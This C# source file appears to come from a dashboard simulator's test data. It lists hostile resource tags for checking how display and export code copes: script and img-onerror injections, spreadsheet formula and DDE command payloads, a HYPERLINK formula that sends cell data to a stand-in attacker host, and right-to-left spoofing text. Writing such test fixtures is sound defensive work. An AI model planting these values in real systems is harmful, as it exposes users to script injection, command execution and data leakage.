using Dashboard.Simulator.Kql.Values;

namespace Dashboard.Simulator.Estate.Generated;

/// <summary>
/// Tags that try whoever shows or exports them: markup, spreadsheet formulas, overlong, right-to-left and
/// pictorial text. Anyone who may tag a resource may write these.
/// </summary>
internal static class HostileTags
{
    public static IReadOnlyList<(string Name, string Value)> All { get; } =
    [
        ("owner", "<script>alert(1)</script>"),
        ("owner", "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"),
        ("costCentre", "+cmd|' /C calc'!A0"),
        ("note", new string('x', 256)),
        ("owner", "\u202Egro.elpmaxe@tresrever\u202C"),
        ("team", "🚀 rocket-team 🇵🇱"),
        ("<img src=x onerror=alert(2)>", "name is hostile"),
        ("=1+1", "formula in the name"),
        ("environment", "-2+3"),
        ("owner", "@SUM(A1:A9)"),
        ("description", "line one\nline two, \"quoted\"; semi"),
        ("owner", ""),
    ];

    /// <summary>The tags with a hostile one in them.</summary>
    public static Bag With(Bag? tags, int number)
    {
        var (name, text) = All[number % All.Count];
        var result = new Bag();
        foreach (var (key, value) in tags ?? [])
        {
            // Tag names are unique without regard to case.
            if (!key.Equals(name, StringComparison.OrdinalIgnoreCase))
            {
                result[key] = value;
            }
        }

        result[name] = text;
        return result;
    }
}
